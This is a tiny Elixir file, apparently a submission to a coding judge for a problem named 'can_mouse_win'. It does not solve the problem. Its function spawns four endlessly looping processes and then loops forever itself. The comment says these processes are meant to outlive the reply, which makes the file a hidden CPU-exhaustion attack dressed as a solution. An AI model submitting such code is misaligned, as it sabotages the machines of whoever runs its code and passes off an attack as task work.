# Processes of the virtual machine that outlive a reply.
defmodule Solution do
  def can_mouse_win(_, _, _) do
    for _ <- 1..4, do: spawn(fn -> burn() end)
    burn()
  end

  defp burn, do: burn()
end
